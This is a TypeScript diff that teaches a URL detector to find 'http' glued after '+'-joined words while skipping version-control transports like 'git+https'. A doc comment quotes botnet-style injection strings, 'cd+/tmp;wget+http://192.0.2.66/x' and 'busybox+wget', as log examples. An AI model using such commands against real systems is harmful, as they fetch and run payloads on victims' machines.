@@ -199,10 +199,28 @@ function isUrlPrefix(buf: Uint8Array, i: number): boolean {
   );
 }
 
+/** version-control systems that name a transport after "+" (pip's `git+https://…`) */
+const VCS_NAMES = ["git", "hg", "svn", "bzr", "cvs", "darcs", "fossil"].map((w) =>
+  Uint8Array.from(w, (ch) => ch.charCodeAt(0)),
+);
+
+/** buf[k, h) is one of VCS_NAMES (any case) */
+function isVcsName(buf: Uint8Array, k: number, h: number): boolean {
+  outer: for (const w of VCS_NAMES) {
+    if (w.length !== h - k) continue;
+    for (let i = 0; i < w.length; i++) if ((buf[k + i]! | 0x20) !== w[i]) continue outer;
+    return true;
+  }
+  return false;
+}
+
 /**
  * buf[s, c) is letters followed by "http" or "https" (any case), or any run and a hyphen
- * before it ("Cricsheet-http://…", "README-https://…": no registered scheme ends so): the
- * index where "http" starts, else -1.
+ * before it ("Cricsheet-http://…", "README-https://…": no registered scheme ends so), or
+ * words joined by "+" before it — a command line with its spaces encoded as "+" in a query
+ * (`?cmd=cd+/tmp;wget+http://192.0.2.66/x`, `busybox+wget+http://…`, the requests of
+ * botnets in every access log) but not a version-control system's transport
+ * (`git+https://…`, `svn+http://…`; pip's VCS URLs): the index where "http" starts, else -1.
  */
 function gluedHttp(buf: Uint8Array, s: number, c: number): number {
   const h = (buf[c - 1]! | 0x20) === 0x73 ? c - 5 : c - 4; // "https" or "http"
@@ -216,6 +234,11 @@ function gluedHttp(buf: Uint8Array, s: number, c: number): number {
     return -1;
   }
   if (buf[h - 1] === 0x2d) return h;
+  if (buf[h - 1] === 0x2b) {
+    let k = h - 1;
+    while (k > s && buf[k - 1] !== 0x2b) k--;
+    return k < h - 1 && !isVcsName(buf, k, h - 1) ? h : -1;
+  }
   for (let k = s; k < h; k++) if (!(CLASS[buf[k]!]! & C_ALPHA)) return -1;
   return h;
 }
